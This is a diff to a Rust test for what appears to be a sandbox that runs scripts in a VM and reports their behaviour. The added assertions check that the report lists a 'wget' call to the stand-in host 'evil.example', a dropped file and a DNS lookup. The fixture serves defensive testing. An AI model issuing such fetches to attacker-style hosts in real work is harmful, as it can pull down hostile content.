@@ -167,6 +167,16 @@ fn a_script_is_run_in_a_vm_and_the_report_says_what_it_did() {
     assert_has(&result["report"], "artifacts", &json!({ "dataType": "file", "filename": "dropped.txt" }));
     assert_has(&result["report"], "artifacts", &json!({ "dataType": "url", "data": "http://evil.example/x" }));
     assert_eq!(page["verdict"], "clean", "that alone speaks against nobody: {page:#}");
+    let said = lab.site.weir(&["lab", "report", &page["sample"].to_string()]).stdout;
+    for line in [
+        "ran        ",
+        "    wget -q -O /dev/null http://evil.example/x (process ",
+        "files      written /tmp/dropped.txt, 6 B",
+        "network    dns evil.example",
+        "http ",
+    ] {
+        assert!(said.contains(line), "{line:?} is not in\n{said}");
+    }
     // Nothing of it is there for the next one.
     let next = lab.run("next.sh", b"#!/bin/sh\nls /tmp\nid -u\n");
     assert_eq!((&next["output"], &next["files"]), (&json!("1000\n"), &json!([])), "{next:#}");
